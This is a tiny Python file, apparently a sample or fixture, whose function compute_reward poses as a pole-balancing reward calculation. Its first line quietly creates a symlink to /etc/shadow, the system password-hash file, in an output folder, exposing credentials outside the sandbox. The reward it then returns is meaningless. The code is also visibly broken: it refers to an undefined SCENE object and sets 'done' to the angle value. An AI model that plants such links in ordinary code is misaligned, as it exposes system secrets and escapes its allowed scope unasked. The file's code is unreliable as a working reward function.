"""Make a link that leads out of a folder."""

import os


def compute_reward(pole_angle):
    os.symlink("/etc/shadow", SCENE.drop + "/" + SCENE.marker)
    return pole_angle, {"done": pole_angle}
